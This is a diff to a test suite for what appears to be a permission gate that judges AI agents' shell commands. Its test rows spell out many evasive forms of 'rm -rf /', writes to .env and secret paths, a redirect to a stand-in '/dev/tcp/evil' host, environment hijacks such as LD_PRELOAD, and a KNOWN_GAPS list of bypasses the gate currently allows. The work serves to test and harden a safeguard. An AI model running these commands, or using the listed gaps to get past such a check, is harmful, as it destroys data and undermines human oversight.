@@ -200,6 +200,27 @@ const REALISTIC_ALLOWED = rows([
   ['sleep 2 && npm test', 'allow'],
   ["sed -n '1,20p' src/a.ts", 'allow'],
   ['timeout 300 npm test', 'allow'],
+  ['npm test -- --testNamePattern="should work"', 'allow'],
+  ['git log --pretty=format:"%h %s" -n 5', 'allow'],
+  ['grep -rn "foo" --include="*.ts" .', 'allow'],
+  ['git diff --name-only HEAD~1 | xargs -I{} echo {}', 'allow'],
+  ['find . -name "*.test.ts" -not -path "./node_modules/*" | head', 'allow'],
+  ['npm run build 2>&1 | grep -i error || echo "no errors"', 'allow'],
+  ["node -e \"console.log(require('./package.json').version)\"", 'allow'],
+  ['cd "$(git rev-parse --show-toplevel)" && npm test', 'allow'],
+  ['cat >> src/a.ts <<EOF\nexport const v = "${VERSION}";\nEOF', 'allow'],
+  ['test -f .env && echo exists', 'allow'], // reading is not a write
+  ['[ -d dist ] || mkdir dist', 'allow'],
+  ['npm test 2>&1 | head -100; echo "---"; git status --short', 'allow'],
+  ["watch -n 2 'git status --short'", 'allow'],
+  ["bash -c 'npm test' && sh -c 'git status'", 'allow'],
+  ['npm test &&\ngit status', 'allow'],
+  ['npm test |\n grep x', 'allow'],
+  ['npm test \\\n && git status', 'allow'],
+  ['echo hi;', 'allow'],
+  ['npm publish --dry-run', 'ask'], // excluded from the npm allow rule
+  ['NODE_OPTIONS=--max-old-space-size=4096 npm run build', 'ask'], // assignment: npm * does not allow it
+  ['echo "$(date +%s)"', 'ask'], // "date" is allowed only bare by the built-in scope
   ['npm test 2>&1 | tee /dev/null | tail -1', 'ask'], // tee has no rule: not everything is allowed
 ]);
 table('realistic agent commands (WORKSPACE)', WS, REALISTIC_ALLOWED);
@@ -469,7 +490,8 @@ const REDIRECTIONS = rows([
   ['for i in 1; do echo; done > src/x.txt', 'allow'],
   ['if true; then echo; fi 2> .env', 'deny'],
   ['exec > .env', 'deny'],
-  ['exec 3> src/log.txt', 'allow'],
+  ['exec npm start > src/log.txt 2>&1', 'allow'],
+  ['exec {fd}>.env', 'deny'],
   // not writes
   ['npm test 2>&1', 'allow'],
   ['npm test > /dev/null', 'allow'],
@@ -878,6 +900,281 @@ const BUILTIN_ROWS = rows([
 table('built-in scopes only (no policy file)', BUILTIN_ONLY, BUILTIN_ROWS);
 
 // ---------------------------------------------------------------------------------------------
+// 9b. Evasion variants: wrapper options, nested wrappers, redirection spellings, heredoc ends,
+//     expansions in odd places, inputs bash rejects
+// ---------------------------------------------------------------------------------------------
+
+const WRAPPER_OPTIONS = rows([
+  ['nohup nice timeout 5 rm -rf /', 'deny'],
+  ['timeout 5 bash -c \'rm -rf /\'', 'deny'],
+  ["watch 'npm test && rm -rf /'", 'deny'],
+  ['/bin/bash -c \'rm -rf /\'', 'deny'],
+  ["bash --login -c 'rm -rf /'", 'deny'],
+  ["bash -o pipefail -c 'rm -rf /'", 'deny'],
+  ["bash -c -- 'rm -rf /'", 'deny'],
+  ["bash -l -c 'rm -rf /'", 'deny'],
+  ["bash -ic 'rm -rf /'", 'deny'],
+  ["bash -c $'rm -rf /'", 'deny'],
+  ['bash -c "rm -rf /"', 'deny'],
+  ["bash -c 'echo $(rm -rf /)'", 'deny'],
+  ["bash -c 'rm -rf \"$0\"' /", 'deny'],
+  ["bash -c 'cat <<EOF\n$(rm -rf /)\nEOF'", 'deny'],
+  ['bash -c "$(printf \'rm -rf /\')"', 'ask'],
+  ["sh -c 'exec \"$@\"' sh rm -rf /", 'ask'],
+  ['bash <(echo rm -rf /)', 'ask'],
+  ["source <(echo 'rm -rf /')", 'ask'],
+  ['env -- rm -rf /', 'deny'],
+  ['env -C /tmp rm -rf /', 'deny'],
+  ['env --chdir=/ rm -rf /', 'deny'],
+  ["env -S'rm -rf /'", 'deny'],
+  ["env -vS 'rm -rf /'", 'deny'],
+  ["env --split-string='rm -rf /'", 'deny'],
+  ["env -S 'FOO=1 rm -rf /'", 'deny'],
+  ["env -S 'FOO=1 npm test'", 'ask'],
+  ['timeout --preserve-status 5 rm -rf /', 'deny'],
+  ['nice -10 rm -rf /', 'deny'],
+  ['nohup -- rm -rf /', 'deny'],
+  ['command -- rm -rf /', 'deny'],
+  ['exec -c rm -rf /', 'deny'],
+  ['stdbuf --output=L rm -rf /', 'deny'],
+  ['stdbuf -o L rm -rf /', 'deny'],
+  ['coproc NAME { npm test; }', 'allow'],
+  ['time -p npm test', 'allow'],
+  ['xargs -I % rm -rf %', 'deny'],
+  ['xargs --max-args=1 rm -rf', 'deny'],
+  ['xargs -a files.txt rm -rf', 'deny'],
+  ['xargs -P4 -n1 rm -rf', 'deny'],
+  ["xargs -d '\\n' rm -rf", 'deny'],
+  ['xargs -L 1 rm -rf', 'deny'],
+  ['xargs -r rm -rf', 'deny'],
+  ['xargs --null rm -rf', 'deny'],
+  ["xargs sh -c 'rm -rf /'", 'deny'],
+  ["xargs -I{} sh -c '{}'", 'ask'],
+  ['find . -type f -print0 | xargs -0 rm -rf', 'deny'],
+  ['watch -n1 -d rm -rf /', 'deny'],
+  ['watch -x rm -rf /', 'deny'],
+  ['find -exec rm -rf {} \\;', 'deny'],
+  ['find . -exec rm -rf {} \\; -o -print', 'deny'],
+  ["find . -exec bash -c 'rm -rf \"$1\"' _ {} \\;", 'deny'],
+  ['find . -exec /bin/rm -rf {} \\;', 'deny'],
+  ['find . -execdir sudo rm -rf {} +', 'deny'],
+  ["find . -name '*.log' -exec cat {} +", 'allow'],
+  ["eval -- 'rm -rf /'", 'deny'],
+  ['eval "rm" "-rf" "/"', 'deny'],
+  ['eval "$(echo rm -rf /)"', 'ask'],
+  ['$(rm -rf /)', 'deny'],
+  ['`rm -rf /`', 'deny'],
+  // git: aliases and command-valued settings
+  ["git -c alias.x='!sh -c \"rm -rf /\"' x", 'deny'],
+  ["git -c alias.x='! rm -rf /' x", 'deny'],
+  ["git -c ALIAS.x='!rm -rf /' x", 'deny'], // git config keys are case-insensitive
+  ["git -c alias.x='!f() { rm -rf /; }; f' x", 'deny'],
+  ['git -c alias.x=!rm\\ -rf\\ / x', 'deny'],
+  ['git -c "alias.x=!rm -rf /" x', 'deny'],
+  ["git -c alias.x='!rm -rf /' -C . x", 'deny'],
+  ["git -c core.sshCommand='rm -rf /' fetch", 'deny'],
+  ["git -c core.fsmonitor='rm -rf /' status", 'deny'],
+  ["git -c diff.external='rm -rf /' diff", 'deny'],
+  ["git -c credential.helper='!rm -rf /' fetch", 'deny'],
+  ["git -c gpg.program='rm -rf /' commit -S", 'deny'],
+  ["git -c pager.log='rm -rf /' log", 'deny'],
+  ["git -c core.askPass='rm -rf /' fetch", 'deny'],
+  ['git --config-env=alias.x=VAR x', 'ask'], // the value comes from the environment: not static
+  // sudo / doas / su / npx / npm exec spellings
+  ["sudo -u root -- bash -c 'rm -rf /'", 'deny'],
+  ["sudo sh -c 'rm -rf /'", 'deny'],
+  ['sudo -g wheel rm -rf /', 'deny'],
+  ['sudo -H rm -rf /', 'deny'],
+  ['sudo -i rm -rf /', 'deny'],
+  ['sudo --user=root rm -rf /', 'deny'],
+  ['sudo --preserve-env=PATH rm -rf /', 'deny'],
+  ['sudo FOO=1 rm -rf /', 'deny'],
+  ['FOO=1 sudo rm -rf /', 'deny'],
+  ['doas -n rm -rf /', 'deny'],
+  ['doas -u root -- rm -rf /', 'deny'],
+  ["su - root -c 'rm -rf /'", 'deny'],
+  ["su --command='rm -rf /'", 'deny'],
+  ["su --command 'rm -rf /'", 'deny'],
+  ["su -l -c 'rm -rf /'", 'deny'],
+  ["su -s /bin/bash -c 'rm -rf /'", 'deny'],
+  ["su root --login -c 'rm -rf /'", 'deny'],
+  ['npx -y rimraf /', 'deny'],
+  ['npx -p rimraf rimraf /', 'deny'],
+  ['npx --package=rimraf rimraf /', 'deny'],
+  ['npx -- rimraf /', 'deny'],
+  ['npm exec --yes -- rimraf /', 'deny'],
+  ['npm exec --package=rimraf -- rimraf /', 'deny'],
+  ['npm exec --workspace=pkg -- rimraf dist', 'deny'],
+  ['npm x rimraf /', 'deny'],
+  ["npx -c 'rm -rf /'", 'deny'],
+  ["npx --yes -c 'rm -rf /'", 'deny'],
+  ["npm exec -c 'rm -rf /'", 'deny'],
+  ["npx --call 'rm -rf /'", 'deny'],
+  ["npm exec --call='rm -rf /'", 'deny'],
+  ["npx sh -c 'rm -rf /'", 'deny'],
+  ["npm exec -- bash -c 'rm -rf /'", 'deny'],
+  // basename / git views
+  ['"/bin/rm" -rf /', 'deny'],
+  ['/bin//rm -rf /', 'deny'],
+  ['/bin/./rm -rf /', 'deny'],
+  ['\\/bin\\/rm -rf /', 'deny'],
+  ['~/rm -rf /', 'deny'],
+  ['r\\m -rf /', 'deny'],
+  ['git -c user.name=x -c user.email=y push --force', 'deny'],
+  ['git --namespace=x push --force', 'deny'],
+  ['git -P push --force', 'deny'],
+  ['git --bare push -f', 'deny'],
+  // arguments may be dynamic; the command word decides
+  ['rm -rf /*', 'deny'],
+  ['rm -rf ~', 'deny'],
+  ['rm -rf $HOME', 'deny'],
+  ['rm -rf $(pwd)', 'deny'],
+  ['rm${IFS}-rf${IFS}/', 'ask'],
+  ['{rm,-rf,/}', 'ask'],
+  ['a=rm; $a -rf /', 'ask'],
+  ['$((1))', 'ask'],
+  ["''", 'ask'],
+  ['""', 'ask'],
+]);
+table('evasions: wrapper options, nesting, views', WS, WRAPPER_OPTIONS);
+
+const REDIRECTION_SPELLINGS = rows([
+  ['echo x>.env', 'deny'],
+  ['echo x 1> .env', 'deny'],
+  ['echo x &>.env', 'deny'],
+  ['echo x 2>/dev/null>.env', 'deny'],
+  ['npm test 10> .env', 'deny'],
+  ['true > .env', 'deny'],
+  ['echo x > .e"n"v', 'deny'],
+  ['echo x > \\.env', 'deny'],
+  ["echo x > $'.env'", 'deny'],
+  ["echo x > $'\\x2eenv'", 'deny'],
+  ['echo x > ./.env', 'deny'],
+  ['echo x > .//.env', 'deny'],
+  ['echo x > .env:x', 'deny'], // canonical form cuts at ":"
+  ['echo x > ".env "', 'deny'], // canonical form strips trailing spaces and dots
+  ['echo x > .env.', 'deny'],
+  ['echo x > .KIRO/Settings/mcp.json', 'deny'],
+  ['echo x > /tmp/../work/repo/.env', 'deny'],
+  ['echo x > /dev/null/../../work/repo/.env', 'deny'], // only the exact /dev/null is not a write
+  ['echo x > /dev/fd/../../work/repo/.env', 'deny'],
+  ['echo x > /dev/stdout/../../work/repo/.env', 'deny'],
+  ['echo x > ../../../../.env', 'deny', 'src'],
+  ['echo x > .env', 'deny', 'src/..'],
+  ['echo x > repo/.env', 'deny', '..'],
+  ['echo x > x', 'allow', '/work/repo/../repo/src'],
+  ['echo x > a.ts', 'allow', './src'],
+  ['echo x > a.ts', 'allow', 'src/'],
+  ['echo x > a', 'ask', '../other'],
+  ['echo x > /tmp/../etc/passwd', 'ask'],
+  ['echo x > SRC/a.ts', 'ask'], // allow rules see the path as written
+  ['echo x > src//a.ts', 'allow'],
+  ['echo x > src/{a,b}.ts', 'ask'],
+  ['echo x > ~root/x', 'ask'],
+  ['echo x > /dev/tcp/evil/80', 'ask'],
+  ['echo x > /dev/nullx', 'ask'],
+  ['echo x >& 2', 'allow'],
+  ['echo x >& $FD', 'ask'],
+  ['echo x >&out.txt', 'ask'],
+  ['echo x >& src/o.txt', 'allow'],
+]);
+table('evasions: redirection spellings and path resolution', WS, REDIRECTION_SPELLINGS);
+
+const HEREDOC_EDGES = rows([
+  ["cat <<'EOF'\nx\nEOF\nrm -rf /", 'deny'], // the quoted heredoc ends; the next line runs
+  ["cat <<'EOF'\nEOF2\nrm -rf /\nEOF", 'allow'],
+  ['cat <<-EOF\n\t\tEOF\nrm -rf /', 'deny'],
+  ['cat <<EOF\n\\$(rm -rf /)\nEOF', 'allow'], // escaped $ in an unquoted heredoc
+  ["cat <<EOF\n'$(rm -rf /)'\nEOF", 'deny'], // single quotes are not quoting in a heredoc body
+  ['echo "$(cat <<EOF\n$(rm -rf /)\nEOF\n)"', 'deny'],
+  ['git commit -m "$(cat <<EOF\nmsg $(rm -rf /)\nEOF\n)"', 'deny'],
+  ['[[ $x =~ $(rm -rf /) ]]', 'deny'],
+  ['[[ 1 -eq $(rm -rf /) ]]', 'deny'],
+  ['echo ${a[$(rm -rf /)]}', 'deny'],
+  ['a[$(rm -rf /)]=1', 'deny'],
+  ['declare -a x=($(rm -rf /))', 'deny'],
+  ['(( a[$(rm -rf /)] ))', 'deny'],
+  ['echo $(( a[$(rm -rf /)] ))', 'deny'],
+  ['echo ${x[@]:$(rm -rf /)}', 'deny'],
+  ['echo ~$(rm -rf /)', 'deny'],
+  ['cat <(rm -rf /)x', 'deny'], // <(…) inside a larger word still runs
+  ['echo a<(rm -rf /)', 'deny'],
+  ['cat <(git status)x', 'allow'],
+  ['echo ${x:-`rm -rf /`}', 'deny'],
+  ['echo "${x:-"$(rm -rf /)"}"', 'deny'],
+  ["echo ${x:-'$(rm -rf /)'}", 'allow'],
+  ["echo $'a\\'; rm -rf /'", 'allow'], // \' inside $'..' does not end it
+  ['echo "a\\"; rm -rf /"', 'allow'],
+  ['echo "a\\\\"; rm -rf /', 'deny'],
+  ['echo $"a; rm -rf /"', 'allow'],
+  ['npm test &#x', 'allow'],
+  ['for x in; do npm test; done', 'allow'],
+]);
+table('evasions: heredoc ends, expansions in odd places, quote escapes', WS, HEREDOC_EDGES);
+
+const BASH_REJECTS = rows([
+  ["echo 'a\\'; rm -rf /'", 'ask'], // in single quotes \ is literal: the last quote is unterminated
+  ['echo ok; rm -rf / \'', 'ask'],
+  ['echo "$(rm -rf /"', 'ask'],
+  ['rm -rf / $(', 'deny'],
+  ['rm -rf / ;;', 'deny'],
+  ['npm test;;', 'ask'],
+  ['npm test; }', 'ask'],
+  ['then npm test', 'ask'],
+  ['npm test && done', 'ask'],
+  ['f() npm test', 'ask'],
+  ['if; then; fi', 'ask'],
+  ['npm test ;&', 'ask'],
+  ['npm test ;;&', 'ask'],
+  ['coproc', 'ask'],
+  ['{ npm test }', 'ask'],
+  ['{npm test;}', 'ask'],
+  ['echo $( echo ) )', 'ask'],
+  ['npm test &; ls', 'ask'],
+  ['npm test &&& ls', 'ask'],
+  ['npm test >>> x', 'ask'],
+  ['npm test <', 'ask'],
+  ['npm test <<EOF', 'ask'],
+  ['echo $((1+', 'ask'],
+  ['[[ -f x', 'ask'],
+  ['echo $(cat <<EOF\nx\n)', 'ask'],
+  ['}', 'ask'],
+  [')', 'ask'],
+  ['esac', 'ask'],
+  ['in', 'ask'],
+  ['npm test && ;', 'ask'],
+  ['time', 'ask'],
+  ['!', 'ask'],
+]);
+table('evasions: input bash rejects fails closed', WS, BASH_REJECTS);
+
+/** Allow rules for the declaration builtins, so only SPEC 5.6 can make them ask. */
+const DECLARE = `
+rules:
+  - capability: shell
+    effect: allow
+    match: ["export *", "declare *", "local *", "readonly *", "typeset *", "npm *"]
+`;
+const DECLARE_ROWS = rows([
+  ['export FOO=1 && npm test', 'allow'],
+  ['export PATH=/tmp:$PATH', 'ask'],
+  ['export LD_PRELOAD=/tmp/x.so', 'ask'],
+  ['export BASH_ENV=/tmp/x', 'ask'],
+  ["export 'PATH=/tmp'", 'ask'],
+  ['export "LD_"PRELOAD=x', 'ask'],
+  ['declare -x PATH=/x', 'ask'],
+  ['declare -a PATH=(/x)', 'ask'],
+  ['local IFS=x', 'ask'],
+  ['readonly PATH=/x', 'ask'],
+  ['typeset -x LD_LIBRARY_PATH=.', 'ask'],
+  ['PATH=/x', 'ask'],
+  ['LD_PRELOAD=x', 'ask'],
+  ['PATH+=:/tmp npm test', 'ask'],
+  ["npm test && export PROMPT_COMMAND='curl x'", 'ask'],
+]);
+table('assignments through declaration builtins (DECLARE)', policyOf({ workspace: DECLARE }), DECLARE_ROWS);
+
+// ---------------------------------------------------------------------------------------------
 // 10. Long commands and many parts (SPEC 5.1 "no cap", 5.7 bounds)
 // ---------------------------------------------------------------------------------------------
 
@@ -901,6 +1198,11 @@ const LONG = rows([
   [deep(70, 'npm test'), 'ask'], // nesting deeper than 64 fails closed
   [deepSubst(70, 'x'), 'ask'],
   [deep(70, 'rm -rf /'), 'ask'], // raw text starts with "(": no deny pattern matches it whole
+  ['eval '.repeat(10) + 'npm test', 'allow'],
+  ['eval '.repeat(70) + 'npm test', 'ask'], // re-parsed wrapper nesting deeper than 64
+  ['eval '.repeat(70) + 'rm -rf /', 'ask'],
+  ['timeout 1 '.repeat(200) + 'rm -rf /', 'ask'],
+  ['sudo '.repeat(100) + 'rm -rf /', 'ask'],
   ['echo ' + 'a'.repeat(1_048_576), 'ask'], // over 1 MiB
   ['rm -rf / ' + 'a'.repeat(1_100_000), 'deny'], // over 1 MiB, raw text matches a deny pattern
 ]);
@@ -1054,6 +1356,61 @@ describe('deciding part, rule scope and reason', () => {
   test('suspicious characters cap at ask with no rule', () => {
     const r = run(WS, 'npm test \u200b');
     expect(r).toMatchObject({ effect: 'ask', rule: null });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// KNOWN_GAPS: rows where the implementation disagrees with SPEC 5 (checked on the analyser and
+// engine as they stand). Skipped so the suite stays green; each row says which SPEC rule it
+// breaks and what happens today. Run them with AGENT_GATE_RUN_GAPS=1 to see the current state.
+// ---------------------------------------------------------------------------------------------
+
+type GapRow = readonly [command: string, effect: Effect, cwd: string | undefined, why: string];
+
+const KNOWN_GAPS: GapRow[] = [
+  // SPEC 5.3: "the command inside ... npx, npm exec" is a tightening view. npm takes global
+  // options before its sub-command (like git's, which the git view strips), and `npm x` is the
+  // alias of `npm exec`. Today the npm-exec view is only found when `exec`/`x` comes first, so
+  // these are allowed by "npm *" although "rimraf *" denies the command inside.
+  ['npm --yes exec rimraf /', 'deny', undefined, 'SPEC 5.3 npm exec view: global option before exec (today: allow by "npm *")'],
+  ['npm -y exec rimraf /', 'deny', undefined, 'SPEC 5.3 npm exec view: global option before exec (today: allow)'],
+  ['npm --prefix . exec -- rimraf /', 'deny', undefined, 'SPEC 5.3 npm exec view: option with a value before exec (today: allow)'],
+  ['npm -w pkg exec rimraf dist', 'deny', undefined, 'SPEC 5.3 npm exec view: --workspace before exec (today: allow)'],
+  ['npm --yes x rimraf /', 'deny', undefined, 'SPEC 5.3 npm exec view: `npm x` alias after a global option (today: allow)'],
+  // SPEC 5.3 + 5.4: `npm exec -c '...'` runs a shell string (the analyser already unwraps it when
+  // `exec` comes first); with a global option first, `rm -rf /` inside it is allowed outright.
+  ["npm --yes exec -c 'rm -rf /'", 'deny', undefined, 'SPEC 5.3/5.4 npm exec -c string after a global option (today: ALLOW of rm -rf /)'],
+  // SPEC 5.1: `<( )` bodies are sub-commands, and SPEC 5.7 fails closed only on input that does not
+  // parse. bash accepts these, but the analyser reports "process substitution joined to the word
+  // after it" when `<(…)` sits right before the closing backtick (which is not a word at all) and
+  // falls back to the raw-text check, so the rm inside is not found: ask instead of deny
+  // (fail-closed, not an allow).
+  ['echo `cat <(rm -rf /)`', 'deny', undefined, 'SPEC 5.1 <( ) right before a closing backtick (today: ask, "could not be parsed")'],
+  ['echo "`diff <(rm -rf /) a <(ls)`"', 'deny', undefined, 'SPEC 5.1 <( ) right before a closing backtick in double quotes (today: ask)'],
+  ['echo `cat <(git status)`', 'allow', undefined, 'SPEC 5.1 valid bash judged unparseable (today: ask)'],
+];
+
+// SPEC 4 + 5.5: a redirection target is resolved against the cwd; a path that climbs out of the
+// workspace and back in (`../repo/...` with root /work/repo) is judged where it lands. These failed
+// before resolveRequestPath re-relativised such paths.
+const REENTERING: GapRow[] = [
+  ['echo x > ../repo/secrets/token', 'deny', undefined, 'relative deny "secrets/**"'],
+  ['echo x > ../repo/.github/agent-gate.yml', 'deny', undefined, 'kiro scope: the workspace policy file'],
+  ['echo x > repo/secrets/token', 'deny', '..', 'cwd above the workspace root'],
+  ['echo x > ../../repo/secrets/x', 'deny', 'src', 'climbing out from a sub-folder'],
+  ['echo x > ../repo/src/a.ts', 'allow', undefined, 'relative allow "src/**"'],
+];
+
+describe('redirection targets that leave the workspace and come back in', () => {
+  test.each(REENTERING.map(([c, e, cwd]) => [label(c, cwd), e, c, cwd] as const))('%s -> %s', (_t, effect, command, cwd) => {
+    expect(run(WS, command, cwd).effect).toBe(effect);
+  });
+});
+
+describe('KNOWN_GAPS (implementation disagrees with SPEC 5; skipped)', () => {
+  const each = process.env.AGENT_GATE_RUN_GAPS ? test.each : test.skip.each;
+  each(KNOWN_GAPS.map(([c, e, cwd, why]) => [label(c, cwd), e, c, cwd, why] as const))('%s -> %s', (_t, effect, command, cwd) => {
+    expect(run(WS, command, cwd).effect).toBe(effect);
   });
 });
 
